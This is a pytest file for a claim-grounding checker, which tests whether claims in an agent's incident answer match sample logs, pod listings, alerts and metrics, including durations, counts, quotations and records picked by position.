"""Another agent's answer read as its author wrote it: durations and counts in words, paraphrase,
quotations and a line of a log as a record of its own, and a link between sources that no
source states (the rules found by checking the labelled answers in `bench/data/answers/`)."""

from __future__ import annotations

import json

import pytest

from models.check import CheckReport
from models.common import Verdict
from models.verifier import Verification
from pipeline.agents.offline_verifier import OfflineVerifier
from pipeline.agents.template_composer import TemplateComposer
from pipeline.checks import check
from pipeline.importers.evidence import invocation_of
from pipeline.importers.files import parse_files
from pipeline.importers.record import ImportedCall
from pipeline.model import ModelReply
from pipeline.prompts import Prompt
from pipeline.rules import lexicon
from pipeline.rules.binder import bind
from pipeline.rules.facts import FactSet, extract_facts
from pipeline.rules.guards import claim_vocabulary
from pipeline.rules.prose import plain_text, quotations, split_claims
from pipeline.rules.statements import grounding_problem

SSH_LOG = "\n".join([
    "Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; rhost=218.188.2.4",
    "Jun 15 02:04:59 combo sshd(pam_unix)[20882]: session opened for user test by (uid=0)",
    "Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
])
PODS = "\n".join([
    "$ kubectl get pods -n shop -l app=inventory-service",
    "NAME                                READY   STATUS             RESTARTS   AGE",
    "inventory-service-dce91a01f-5bzh9   0/1     CrashLoopBackOff   6          88m",
    "inventory-service-dce91a01f-6g9wr   1/1     Running            7          88m",
])
QUEUE_LOG = "\n".join([
    "2015-07-29 19:21:58,612 - WARN [RecvWorker:188978561024:QuorumCnxManager$RecvWorker@765]"
    " - Interrupted while waiting for message on queue",
    "2015-07-29 19:34:06,067 - WARN [SendWorker:188978561024:QuorumCnxManager$SendWorker@688]"
    " - Send worker leaving thread",
])


class Credulous:
    """A Verifier that calls every claim a direct observation: only the rules judge."""

    model = "credulous"

    def respond(self, prompt: Prompt, payload: bytes) -> ModelReply:
        claims = json.loads(payload)["verified_executor_output"]["claims"]
        return ModelReply(json.dumps({
            "verdict": "PASS", "groundedness_score": 1.0, "rationale": "observed",
            "claim_checks": [{"claim_id": c["claim_id"], "verification": "direct_observation",
                              "evidence_refs": [], "note": "observed"} for c in claims]}))


def _checked(answer: str, *evidence: tuple[str, str], credulous: bool = True) -> CheckReport:
    verifier = Credulous() if credulous else OfflineVerifier()
    return check(parse_files(("answer.md", answer), list(evidence)), verifier=verifier,
                 composer=TemplateComposer()).report


def _unsaid(text: str, material: list[str]) -> str | None:
    """What the word check finds unsaid in a claim (`guards.unsaid_words` reads it so)."""
    return grounding_problem(text, material, vocabulary=lexicon.CLAIM_WORDS, words_only=True)


def _verification(report: CheckReport, start: str) -> Verification | None:
    (claim,) = [c for c in report.claims if c.text.startswith(start)]
    return claim.verification


# -- durations and counts in words ------------------------------------------------------------

def test_wording__a_duration_in_words_is_the_same_fact_as_in_digits() -> None:
    (two_hours,) = extract_facts("none in the two hours before")
    assert two_hours.text == "two hours" and two_hours.shape == "duration"
    assert FactSet.from_texts(["(0 in the preceding 120 minutes)"]).supports(two_hours)
    assert not FactSet.from_texts(["(0 in the preceding 180 minutes)"]).supports(two_hours)


@pytest.mark.parametrize(("text", "value_s"), [
    ("the log covers about half a minute", 30), ("two and a half hours before", 9000),
    ("a minute and a half before the first kill", 90), ("an hour and a half later", 5400),
    ("half an hour later", 1800),
])
def test_wording__a_duration_with_a_half_in_words_is_a_duration(text: str,
                                                                 value_s: int) -> None:
    (duration,) = extract_facts(text)
    assert duration.shape == "duration" and duration.value == value_s * 1000


def test_wording__a_half_in_words_between_two_times_is_worked_out() -> None:
    report = _checked("This executor log covers about half a minute, from 20:10:40 to "
                      "20:11:11.\n", ("executor.log", "20:10:40 INFO start\n20:11:11 INFO done"))
    assert _verification(report, "This executor log") is Verification.DIRECT_OBSERVATION


@pytest.mark.parametrize(("text", "unsaid"), [
    ("The warnings come from two pods, pod-a1 and pod-b2.", None),
    ("The rejections hit three pods: pod-a1, pod-b2 and pod-c3.", None),
    ("The warnings come from three pods, pod-a1 and pod-b2.", "three"),
    ("The warnings come from two pods.", "two"),
    ("The three pods (a1, b2, c3) log slow renders.", None),
    ("Slow renders came from five pods: pod-a1, pod-b2, pod-c3 and pod-d4.", "five"),
    ("All three of them are slow renders, every one.", "three"),
])
def test_wording__a_count_in_words_is_said_when_the_claim_lists_that_many(
        text: str, unsaid: str | None) -> None:
    material = ["WARN [pod-a1] slow render", "WARN [pod-b2] slow render",
                "WARN [pod-c3] slow render"]
    problem = _unsaid(text, material)
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


@pytest.mark.parametrize(("text", "unsaid"), [
    ("checkout-service answered 322 requests with HTTP 503.", None),
    ("The slowest request took 0.4467819 s.", None),
    ("Response times ranged from 24 to 154 ms.", None),
    ("checkout-service served GET /api/cart with 200s.", None),
    ("checkout-service answered with stale cache entries.", "stale"),
])
def test_wording__the_records_returned_are_narrated(text: str, unsaid: str | None) -> None:
    material = ["checkout-service GET /api/cart 200 in 24 ms", "GET /api/cart 200 in 154 ms",
                "322 x HTTP 503 Service Unavailable for GET /api/cart",
                "slowest 0.4467819 s", "cache entries: 12"]
    problem = _unsaid(text, material)
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


def test_wording__a_camel_case_name_says_its_parts() -> None:
    material = ["Warning OOMKilled pod/inventory-service-dce91a01f-6g9wr exit code 137"]
    assert _unsaid("Each kill reports exit code 137.", material) is None
    assert _unsaid("Each eviction reports exit code 137.", material) is not None


@pytest.mark.parametrize(("text", "material"), [
    ("checkout-service v2.3.1 replaced v2.3.0.", "checkout-service v2.3.1 (previous v2.3.0)"),
    ("ledger-api's request rate fell to 0 rps.", "http_requests_per_second of ledger-api fell 0"),
    ("The database is quiet.", "payment-db quiet"),
    ("The alert fired until the expiry.", "CertificateExpiringSoon fired: expires soon"),
    ("Notifications timed out at 3200.", "Notification time out: 3200"),
    ("Active connections hit the cap of 20.", "active connections 20 (max 20)"),
    ("The error rate sat at 0.103% vs 0.099% before, though.", "error rate 0.103% baseline "
     "0.099%"),
    ("catalog-service v1.15.0 went out at 11:30.", "catalog-service v1.15.0 deployed 11:30"),
])
def test_wording__a_paraphrase_says_what_its_material_says(text: str, material: str) -> None:
    assert _unsaid(text, [material]) is None


# -- sentences, quotations and lines -----------------------------------------------------------

def test_wording__a_unit_before_a_full_stop_ends_the_sentence() -> None:
    claims = split_claims("batch-73598 was posted in 42 ms. From 09:00:02 UTC every post "
                          "fails. See e.g. the runbook.")
    assert [c.text for c in claims][:2] == ["batch-73598 was posted in 42 ms.",
                                            "From 09:00:02 UTC every post fails."]


def test_wording__quotations_are_what_the_claim_quotes_word_for_word() -> None:
    assert quotations('logged `Interrupted while waiting`, "Send  worker leaving", `ok`') == [
        "Interrupted while waiting", "Send worker leaving"]


def test_wording__a_quotation_is_bound_where_an_output_states_it() -> None:
    invocations = [invocation_of(ImportedCall("zk", "zookeeper.log", {}, QUEUE_LOG),
                                 max_items=1000, max_bytes=131072)]
    claim = ("The SendWorker threads for 188978561024 logged `Interrupted while waiting for "
             "message on queue` and `Send worker leaving thread`.")
    bound = bind(claim, invocations, quoted=quotations(claim))
    assert {b.path for b in bound} == {"$.lines[0]", "$.lines[1]"}


def test_wording__a_claim_bound_to_a_log_line_is_read_against_that_line() -> None:
    """"test" is a user on another line of the file, not on the authentication failure the
    claim binds to: the claim is not what its line says."""
    report = _checked("User test logged in from 218.188.2.4.", ("linux.log", SSH_LOG))
    assert _verification(report, "User test") is Verification.CONTRADICTED
    faithful = _checked("An authentication failure came from rhost 218.188.2.4.",
                        ("linux.log", SSH_LOG))
    assert _verification(faithful, "An authentication") is Verification.DIRECT_OBSERVATION


def test_wording__a_listing_row_is_read_with_its_header() -> None:
    report = _checked("inventory-service-dce91a01f-6g9wr is Running with 7 restarts.",
                      ("kubectl-get-pods.txt", PODS))
    assert _verification(report, "inventory-service") is Verification.DIRECT_OBSERVATION


# -- a link between sources --------------------------------------------------------------------

DEPLOYS = json.dumps({"deployments": [{
    "service": "catalog-service", "version": "v4.2.0", "deployed_at": "2026-12-09T10:12:30Z",
    "summary": "catalog-service v4.2.0 deployed at 2026-12-09T10:12:30Z"}]})
THUMBS = ("2026-12-09T10:13:57Z WARN catalog-service [catalog-service-7eceaa535-4jtxx] image "
          "thumbnail missing for sku-38555, serving placeholder")


def test_wording__a_link_no_source_states_is_never_a_direct_observation() -> None:
    answer = "The thumbnail warnings (`image thumbnail missing`) started with v4.2.0."
    report = _checked(answer, ("list_deployments.json", DEPLOYS), ("warn.log", THUMBS))
    (claim,) = report.claims
    assert {b.tool_name for b in claim.bindings} == {"list_deployments.json", "warn.log"}
    assert claim.verification is Verification.REASONABLE_INFERENCE
    assert "draws a link none of its evidence states" in (claim.note or "")


def test_wording__a_link_its_source_states_may_be_observed() -> None:
    line = ("2026-12-09T10:13:21Z ERROR catalog-service returning HTTP 503 because upstream "
            "price lookup rejected with 429 Too Many Requests")
    report = _checked("catalog-service returned HTTP 503 because the upstream price lookup was "
                      "rejected with 429 at 10:13:21 UTC.", ("errors.log", line))
    assert report.claims[0].verification is Verification.DIRECT_OBSERVATION


@pytest.mark.parametrize("text", [
    "Spark logged: Reading broadcast variable 11 took 15 ms",  # a system's name is no link
    "The Spark executor on node-3 read broadcast variable 11.",
])
def test_wording__a_name_that_reads_like_a_link_word_draws_no_link(text: str) -> None:
    # (bench/grounding.py holds every Spark line's restatement as observed through post_check)
    assert lexicon.CAUSAL.search(text) is None


@pytest.mark.parametrize("text", ["The deploy sparked the retry storm.",
                                  "Retries driven by the timeout filled the pool."])
def test_wording__the_verb_of_such_a_name_still_draws_one(text: str) -> None:
    assert lexicon.CAUSAL.search(text) is not None


# -- a record picked by its place ------------------------------------------------------------

CHECKOUT_LOG = "\n".join([
    "2026-11-30T14:04:22Z ERROR checkout-service [checkout-service-bd1f30671-5dv2q] POST "
    "/api/checkout 500 Internal Server Error (request_id=req-5b776966)",
    "2026-11-30T14:04:25Z WARN checkout-service [checkout-service-bd1f30671-2w9m4] slow "
    "request: POST /api/checkout took 5000 ms",
    "2026-11-30T14:04:31Z ERROR checkout-service [checkout-service-bd1f30671-5dv2q] POST "
    "/api/checkout 500 Internal Server Error (request_id=req-523e4489)",
    "2026-11-30T14:05:54Z ERROR checkout-service [checkout-service-bd1f30671-57lcq] POST "
    "/api/checkout 500 Internal Server Error (request_id=req-62c5b9b3)",
])
SSHD_LOG = "\n".join([
    "Dec 10 10:56:14 LabSZ sshd[24983]: Failed password for root from 183.62.140.253 port "
    "53309 ssh2",
    "Dec 10 10:57:02 LabSZ sshd[25033]: Received disconnect from 183.62.140.253: 11: Bye Bye",
    "Dec 10 10:58:41 LabSZ sshd[25136]: Failed password for root from 183.62.140.253 port "
    "53021 ssh2",
    "Dec 10 11:00:56 LabSZ sshd[25286]: Failed password for root from 183.62.140.253 port "
    "50655 ssh2",
])


@pytest.mark.parametrize(("answer", "log", "expected"), [
    ("The first `POST /api/checkout 500 Internal Server Error` follows at 14:04:31 UTC.",
     CHECKOUT_LOG, Verification.CONTRADICTED),
    ("The first `POST /api/checkout 500 Internal Server Error` follows at 14:04:22 UTC.",
     CHECKOUT_LOG, Verification.DIRECT_OBSERVATION),
    ("The last `POST /api/checkout 500 Internal Server Error` came at 14:04:31 UTC.",
     CHECKOUT_LOG, Verification.CONTRADICTED),
    ("The last `POST /api/checkout 500 Internal Server Error` came at 14:05:54 UTC.",
     CHECKOUT_LOG, Verification.DIRECT_OBSERVATION),
    # no quotation: the records are those with the claim's words (failed password for root)
    ("The last failed root password from 183.62.140.253 used port 53021.", SSHD_LOG,
     Verification.CONTRADICTED),
    ("The last failed root password from 183.62.140.253 used port 50655.", SSHD_LOG,
     Verification.DIRECT_OBSERVATION),
    ("The first failed root password from 183.62.140.253 used port 53309.", SSHD_LOG,
     Verification.DIRECT_OBSERVATION),
    # not an ordinal of records: "at first", "the last two hours"
    ("A failed root password from 183.62.140.253 used port 53021 at first.", SSHD_LOG,
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_record_picked_by_its_place_is_that_record(
        answer: str, log: str, expected: Verification) -> None:
    report = _checked(answer, ("app.log", log))
    assert report.claims[0].verification is expected, report.claims[0].note


APACHE_LOG = "\n".join([
    "[Mon Dec 05 04:06:19 2005] [notice] jk2_init() Found child 3667 in scoreboard slot 7",
    "[Mon Dec 05 10:26:25 2005] [notice] jk2_init() Found child 5386 in scoreboard slot 9",
    "[Mon Dec 05 10:26:27 2005] [error] mod_jk child workerEnv in error state 6",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("Child 5386 was found in scoreboard slot 7.", Verification.CONTRADICTED),
    ("Child 5386 was found in scoreboard slot 9.", Verification.DIRECT_OBSERVATION),
    # both records' pairs given: no number crossed
    ("Child 5386 was found in slot 9 and child 3667 in slot 7.",
     Verification.DIRECT_OBSERVATION),
    # two records of different forms: each number its own ("state 6", "slot 9")
    ("Child 5386 was found in scoreboard slot 9 and workerEnv was in error state 6.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__numbers_of_two_records_crossed_are_contradicted(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("apache-error.log", APACHE_LOG))
    assert report.claims[0].verification is expected, report.claims[0].note


CERT_ALERTS = json.dumps({"alerts": [
    {"name": "CertificateExpiringSoon", "severity": "warning", "state": "resolved",
     "summary": "CertificateExpiringSoon (warning) for ledger-api, fired from "
                "2026-11-26T09:00:00Z to 2026-12-03T09:00:00Z: certificate expires soon"},
    {"name": "CertificateExpired", "severity": "critical", "state": "firing",
     "summary": "CertificateExpired (critical) for ledger-api, firing since "
                "2026-12-03T09:01:00Z: certificate ledger-api-tls has expired"},
]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("| alert | severity | state | since |\n|---|---|---|---|\n"
     "| CertificateExpiringSoon | warning | firing | 2026-11-26T09:00:00Z |",
     Verification.CONTRADICTED),
    ("CertificateExpiringSoon has been firing since 2026-11-26T09:00:00Z.",
     Verification.CONTRADICTED),
    ("CertificateExpired has been firing since 2026-12-03T09:01:00Z.",
     Verification.DIRECT_OBSERVATION),
    ("CertificateExpired is resolved since 2026-12-03T09:01:00Z.", Verification.CONTRADICTED),
    # what an alert did once is no state
    ("CertificateExpiringSoon started firing at 2026-11-26T09:00:00Z.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__an_alerts_state_is_held_to_the_one_its_evidence_states(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("list_alerts.json", CERT_ALERTS))
    (claim,) = [c for c in report.claims if "Certificate" in c.text]
    assert claim.verification is expected, claim.note


# -- a record's values swapped, a number's pair, a duration between two times ------------------

SEARCH_LOG = "\n".join([
    "2026-12-07T15:07:18Z ERROR search-api [search-api-cda7299da-lfpm6] GET /api/search failed"
    " (request_id=req-1cb8fc7d)",
    "2026-12-07T15:07:21Z ERROR search-api [search-api-cda7299da-2twzm] GET /api/search failed"
    " (request_id=req-139bf1d6)",
    "2026-12-07T15:07:42Z ERROR search-api [search-api-cda7299da-lfpm6] GET /api/search failed"
    " (request_id=req-504491bb)",
    "2026-12-07T15:07:55Z ERROR search-api [search-api-cda7299da-2twzm] GET /api/search failed"
    " (request_id=req-0790b42a)",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("The 15:07:42 failure was request req-0790b42a.", Verification.CONTRADICTED),
    ("The 15:07:42 failure was request req-504491bb.", Verification.DIRECT_OBSERVATION),
    ("Request req-139bf1d6 failed on search-api-cda7299da-lfpm6.", Verification.CONTRADICTED),
    ("Request req-139bf1d6 failed on search-api-cda7299da-2twzm.",
     Verification.DIRECT_OBSERVATION),
    # several of one sort: each is a record of its own
    ("Requests req-1cb8fc7d and req-139bf1d6 failed at 15:07:18 and 15:07:21.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__a_records_values_swapped_with_another_records_are_contradicted(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("search-api.log", SEARCH_LOG))
    assert report.claims[0].verification is expected, report.claims[0].note


POD_EVENTS = "\n".join([
    "2026-12-07T14:58:02Z Normal Started pod/search-api-cda7299da-lfpm6",
    "2026-12-07T14:58:09Z Normal Started pod/search-api-cda7299da-2twzm",
])


@pytest.mark.parametrize(("answer", "expected"), [
    ("The 15:07:21 failure (req-139bf1d6) came from pod search-api-cda7299da-lfpm6.",
     Verification.CONTRADICTED),
    ("The 15:07:21 failure (req-139bf1d6) came from pod search-api-cda7299da-2twzm.",
     Verification.DIRECT_OBSERVATION),
    # a claim that joins the two outputs on purpose, naming both records' times
    ("search-api-cda7299da-lfpm6 started at 14:58:02 and failed at 15:07:18.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__another_output_naming_the_pod_does_not_pair_it_with_the_record(
        answer: str, expected: Verification) -> None:
    """The line of req-139bf1d6 names 2twzm; lfpm6's start event, in another output, does not
    make the 15:07:21 failure lfpm6's while other lines of the log name lfpm6."""
    report = _checked(answer, ("search-api.log", SEARCH_LOG), ("events.txt", POD_EVENTS))
    assert report.claims[0].verification is expected, report.claims[0].note


def test_wording__a_number_paired_with_a_bare_one_is_held_to_its_pair() -> None:
    """"from 8 to 46 connections" against a deploy "from 8 to 64": the 46 of some other
    output (a mean of 45.8) is not taken for it."""
    deploys = json.dumps({"deployments": [{
        "service": "catalog-service", "version": "v4.2.0",
        "change": "raise the pricing-api client pool from 8 to 64 connections"}]})
    metrics = json.dumps({"series": [{"metric": "active_connections", "mean": 45.8}]})
    report = _checked("v4.2.0 raised the pricing-api client pool from 8 to 46 connections.",
                      ("list_deployments.json", deploys), ("query_metrics.json", metrics))
    assert report.claims[0].verification is Verification.CONTRADICTED


@pytest.mark.parametrize(("claim", "supported"), [
    ("the first kill came ten minutes after the deploy", True),
    ("the first kill came three seconds after the deploy", False),
])
def test_wording__a_duration_between_two_stated_times_is_stated(
        claim: str, supported: bool) -> None:
    evidence = FactSet.from_texts(["v5.1.0 deployed at 2026-12-02T08:31:40Z",
                                   "OOMKilled at 2026-12-02T08:41:46Z"])
    (duration,) = extract_facts(claim)
    assert evidence.supports(duration) is supported


POD_STARTS = "\n".join([
    "2026-11-30T14:02:21Z Normal Started pod/checkout-service-bd1f30671-2w9m4",
    "2026-11-30T14:02:30Z Normal Started pod/checkout-service-bd1f30671-5dv2q",
    "2026-11-30T14:02:39Z Normal Started pod/checkout-service-bd1f30671-57lcq",
])


@pytest.mark.parametrize("credulous", [True, False], ids=["credulous", "offline"])
@pytest.mark.parametrize(("answer", "kept"), [
    ("The new pods all came up within 30 seconds: 2w9m4 at 14:02:21, 5dv2q at 14:02:30 and "
     "57lcq at 14:02:39.", True),
    ("The new pods all came up within 5 seconds: 2w9m4 at 14:02:21, 5dv2q at 14:02:30 and "
     "57lcq at 14:02:39.", False),
])
def test_wording__a_bound_worked_out_between_times_is_no_value_to_find(
        answer: str, kept: bool, credulous: bool) -> None:
    """The offline Verifier reads "within 30 seconds" of the times a claim binds as the post-check
    does: a reading of them, not a value its evidence should state."""
    report = _checked(answer, ("events.txt", POD_STARTS), credulous=credulous)
    verification = report.claims[0].verification
    assert (verification in (Verification.DIRECT_OBSERVATION,
                             Verification.REASONABLE_INFERENCE)) is kept, report.claims[0].note


# -- an alert's severity -------------------------------------------------------------------

ALERTS = json.dumps({"alerts": [{
    "name": "PaymentGatewayLatencyHigh", "severity": "critical", "state": "firing",
    "summary": "PaymentGatewayLatencyHigh (critical) for payment-gateway, firing since "
               "2026-12-04T13:17:00Z: p99 latency above 1000 ms"}]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("The PaymentGatewayLatencyHigh alert (warning) has been firing since 13:17 UTC.",
     Verification.CONTRADICTED),
    ("PaymentGatewayLatencyHigh, a warning, has been firing since 13:17 UTC.",
     Verification.CONTRADICTED),
    ("PaymentGatewayLatencyHigh | warning | firing | 13:17", Verification.CONTRADICTED),
    ("PaymentGatewayLatencyHigh has been firing since 13:17 UTC as a warning-level alert.",
     Verification.CONTRADICTED),
    ("The PaymentGatewayLatencyHigh alert (critical) has been firing since 13:17 UTC.",
     Verification.DIRECT_OBSERVATION),
    # a warning that is no alert's severity is not compared with one
    ("PaymentGatewayLatencyHigh has been firing since 13:17 UTC and warning lines followed.",
     Verification.DIRECT_OBSERVATION),
    # (its logs in no output: worded beyond them, an inference, but no severity of an alert)
    ("PaymentGatewayLatencyHigh has been firing since 13:17 UTC; warning-level logs followed.",
     Verification.REASONABLE_INFERENCE),
])
def test_wording__an_alerts_severity_is_held_to_the_one_its_evidence_states(
        answer: str, expected: Verification) -> None:
    report = _checked(answer, ("list_alerts.json", ALERTS))
    assert report.claims[0].verification is expected, report.claims[0].note


def test_wording__single_quotes_quote_but_an_apostrophe_does_not() -> None:
    assert quotations("ledger-api's event said 'Certificate ledger-api-tls expired' at 09:00") == [
        "Certificate ledger-api-tls expired"]


def test_wording__a_finding_on_a_service_the_root_cause_names_is_critical() -> None:
    claims = split_claims(
        "Root cause: catalog-service v4.2.0 overloads pricing-api with price lookups.\n\n"
        "- pricing-api's request rate shifted up at 10:14 UTC.\n"
        "- search-api v2.8.0 was deployed at 09:51 UTC.\n")
    assert [(c.kind.value, c.critical) for c in claims] == [
        ("ROOT_CAUSE", True), ("FINDING", True), ("FINDING", False)]



# -- an underscore inside an identifier is no emphasis -----------------------------------------

@pytest.mark.parametrize(("text", "plain"), [
    ("Received blk_-684595390732854503 from /10.250.6.191.",
     "Received blk_-684595390732854503 from /10.250.6.191."),
    ("allocated blk_1 for /user/root/randtxt5/_temporary/_task_200811101024_0012_m_001726_0/x.",
     "allocated blk_1 for /user/root/randtxt5/_temporary/_task_200811101024_0012_m_001726_0/x."),
    ("the pool was _cut_ to *20*, not __50__", "the pool was cut to 20, not 50"),
])
def test_wording__an_underscore_inside_an_identifier_is_no_emphasis(text: str, plain: str) -> None:
    assert plain_text(text) == plain


HDFS_LOG = "\n".join([
    "081110 103114 30 INFO dfs.FSNamesystem: BLOCK* NameSystem.delete: blk_2304296078821316612 "
    "is added to invalidSet of 10.251.39.64:50010",
    "081110 103615 19 INFO dfs.FSDataset: Deleting block blk_-2826763604408365998 file "
    "/mnt/hadoop/dfs/data/current/subdir40/blk_-2826763604408365998",
    "081111 023022 27 INFO dfs.FSNamesystem: BLOCK* NameSystem.delete: blk_-1071115021179995772 "
    "is added to invalidSet of 10.250.11.53:50010",
])


def test_wording__blocks_with_and_without_a_sign_are_one_family() -> None:
    """`blk_2304…` and `blk_-2826…` are two HDFS blocks of one list, each its own record: a
    claim that names both is bound to both lines, not held to the first."""
    bound = bind("NameSystem.delete added blk_2304296078821316612 to the invalidSet of "
                 "10.251.39.64:50010, and FSDataset later deleted blk_-2826763604408365998.",
                 [invocation_of(ImportedCall("hdfs", "hdfs.log", {}, HDFS_LOG),
                                max_items=1000, max_bytes=131072)])
    assert {b.path for b in bound} == {"$.lines[0]", "$.lines[1]"}


def test_wording__a_directory_of_a_stated_path_is_stated() -> None:
    (directory,) = [f for f in extract_facts("deleted from /mnt/hadoop/dfs/data/current/subdir40.")
                    if f.shape == "path"]
    evidence = FactSet.from_texts([HDFS_LOG])
    assert evidence.supports(directory)
    (other,) = [f for f in extract_facts("deleted from /mnt/hadoop/dfs/data/current/subdir4.")
                if f.shape == "path"]
    assert not evidence.supports(other)


# -- a number given as an attribute its evidence gives another number ---------------------------

RATE_LIMIT = ("2026-12-09T10:14:08Z WARN pricing-api [pricing-api-299f1bb96-9l8z9] rate limit "
              "exceeded for client catalog-service: 64 requests in flight (limit 16), rejecting "
              "with 429")
ERROR_RATE = json.dumps({"series": [{"summary": (
    "http_error_rate of search-api: baseline mean 0.206% (max 0.456%) between "
    "2026-12-07T12:00:00Z and 2026-12-07T14:00:00Z; in window mean 2.96%, peak 6.68% at "
    "2026-12-07T15:07:00Z")}]})


@pytest.mark.parametrize(("answer", "evidence", "expected"), [
    ("The limit is 64 requests in flight per client.", ("warn.log", RATE_LIMIT),
     Verification.CONTRADICTED),
    ("The limit is 16, and catalog-service had 64 requests in flight.", ("warn.log", RATE_LIMIT),
     Verification.DIRECT_OBSERVATION),
    ("search-api's error rate averaged 6.68% over the window.",
     ("query_metrics.json", ERROR_RATE), Verification.CONTRADICTED),
    ("search-api's error rate averaged 2.96% in the window, against a baseline mean of 0.206%.",
     ("query_metrics.json", ERROR_RATE), Verification.DIRECT_OBSERVATION),
    ("search-api's error rate peaked at 6.68%.", ("query_metrics.json", ERROR_RATE),
     Verification.DIRECT_OBSERVATION),
    ("search-api's error rate peaked at 2.96%.", ("query_metrics.json", ERROR_RATE),
     Verification.CONTRADICTED),
])
def test_wording__a_number_given_as_an_attribute_is_held_to_that_attributes_value(
        answer: str, evidence: tuple[str, str], expected: Verification) -> None:
    report = _checked(answer, evidence)
    assert report.claims[0].verification is expected, report.claims[0].note


# -- a record named by its time or its object is that record -----------------------------------

MOD_JK_LOG = "\n".join([
    "[Sun Dec 04 04:47:44 2005] [notice] workerEnv.init() ok /etc/httpd/conf/workers2.properties",
    "[Sun Dec 04 05:15:16 2005] [error] mod_jk child workerEnv in error state 6",
    "[Sun Dec 04 16:32:58 2005] [error] mod_jk child workerEnv in error state 7",
])


@pytest.mark.parametrize(("answer", "evidence", "expected"), [
    ("| time | level | message |\n|---|---|---|\n"
     "| Sun Dec 04 16:32:58 2005 | error | mod_jk child workerEnv in error state 6 |",
     ("apache-error.log", MOD_JK_LOG), Verification.CONTRADICTED),
    ("| time | level | message |\n|---|---|---|\n"
     "| Sun Dec 04 16:32:58 2005 | error | mod_jk child workerEnv in error state 7 |",
     ("apache-error.log", MOD_JK_LOG), Verification.DIRECT_OBSERVATION),
    ("| pod | ready | status | restarts |\n|---|---|---|---|\n"
     "| inventory-service-dce91a01f-6g9wr | 0/1 | CrashLoopBackOff | 7 |",
     ("kubectl-get-pods.txt", PODS), Verification.CONTRADICTED),
    ("| pod | ready | status | restarts |\n|---|---|---|---|\n"
     "| inventory-service-dce91a01f-5bzh9 | 0/1 | CrashLoopBackOff | 6 |",
     ("kubectl-get-pods.txt", PODS), Verification.DIRECT_OBSERVATION),
    # both pods named: each its own record
    ("inventory-service-dce91a01f-5bzh9 is in CrashLoopBackOff and "
     "inventory-service-dce91a01f-6g9wr has 7 restarts.",
     ("kubectl-get-pods.txt", PODS), Verification.DIRECT_OBSERVATION),
])
def test_wording__a_record_named_by_its_time_or_object_is_that_record(
        answer: str, evidence: tuple[str, str], expected: Verification) -> None:
    report = _checked(answer, evidence)
    claim = report.claims[-1]  # the row, not the table's header
    assert claim.verification is expected, (claim.note, claim.bindings)


# -- counts of listed things -------------------------------------------------------------------

OOM_EVENTS = json.dumps({"reasons": [{"reason": "OOMKilled", "summary": (
    "21 OOMKilled events (Warning, summed count 21) on 3 objects between "
    "2026-12-02T08:41:46Z and 2026-12-02T09:58:32Z, e.g. Container inventory-service was "
    "OOMKilled")}]})
RUNBOOK = json.dumps({"documents": [{"id": "rb-oomkilled-crashloop", "excerpt": (
    "1. List the events of the service's pods and count OOMKilled and BackOff events. "
    "2. Compare the memory working set with the limit. 3. Roll back. 4. Look for a leak.")}]})


@pytest.mark.parametrize(("answer", "expected"), [
    ("Kubernetes recorded 21 OOMKilled events on 4 pods between 08:41:46 and 09:58:32 UTC.",
     Verification.CONTRADICTED),
    ("Kubernetes recorded 21 OOMKilled events on 3 pods between 08:41:46 and 09:58:32 UTC.",
     Verification.DIRECT_OBSERVATION),
])
def test_wording__the_objects_of_kubernetes_events_are_its_pods(
        answer: str, expected: Verification) -> None:
    """(A runbook's step "4." is no count of pods.)"""
    report = _checked(answer, ("get_events.json", OOM_EVENTS), ("search_runbooks.json", RUNBOOK))
    assert report.claims[0].verification is expected, report.claims[0].note


@pytest.mark.parametrize(("text", "unsaid"), [
    ("root logins failed twice, at 16:01:46 and 16:03:11.", None),
    ("root logins failed twice on Jul 10, at 16:01:46 and 16:03:11.", None),
    ("root logins had three failures, at 16:01:46 and 16:03:11.", "three"),
])
def test_wording__a_count_in_words_is_said_when_the_claim_lists_that_many_times(
        text: str, unsaid: str | None) -> None:
    material = ["Jul 10 16:01:46 combo sshd(pam_unix)[19939]: root logins failed",
                "Jul 10 16:03:11 combo sshd(pam_unix)[19937]: root logins failed"]
    problem = _unsaid(text, material)
    assert (problem is None) if unsaid is None else (problem and repr(unsaid) in problem)


# -- an address of one host and another's port -------------------------------------------------

ZK_LOG = "\n".join([
    "2015-07-29 19:36:36,365 - INFO [/10.10.34.11:3888:QuorumCnxManager$Listener@493] - "
    "Received connection request /10.10.34.13:33198",
    "2015-08-24 20:57:14,495 - WARN [QuorumPeer[myid=1]/0:0:0:0:0:0:0:0:2181:QuorumCnxManager"
    "@368] - Cannot open channel to 2 at election address /10.10.34.12:3888",
])


@pytest.mark.parametrize(("address", "stated"), [
    ("10.10.34.13:3888", False),  # the host of one address, the port of another
    ("10.10.34.12:3888", True),
    ("10.10.34.13:33198", True),
])
def test_wording__an_address_is_not_made_of_two_addresses_parts(
        address: str, stated: bool) -> None:
    (fact,) = extract_facts(f"The election address is /{address}.")
    assert FactSet.from_texts(ZK_LOG.splitlines()).supports(fact) is stated


def test_wording__a_host_and_a_port_stated_apart_make_an_address() -> None:
    (fact,) = extract_facts("It listens on 10.250.19.102:50010.")
    assert FactSet.from_texts(["host 10.250.19.102 opened port 50010"]).supports(fact)


# -- a listing's row is described by its header --------------------------------------------------

TLS_EVENTS = "\n".join([
    "$ kubectl get events -n ledger --field-selector involvedObject.name=ledger-api-tls",
    "LAST SEEN              TYPE      REASON    OBJECT                       COUNT   MESSAGE",
    "2026-12-03T06:15:00Z   Warning   Failed    certificate/ledger-api-tls   33      Failed to "
    "renew certificate: ACME DNS-01 challenge for ledger-api.example.com failed",
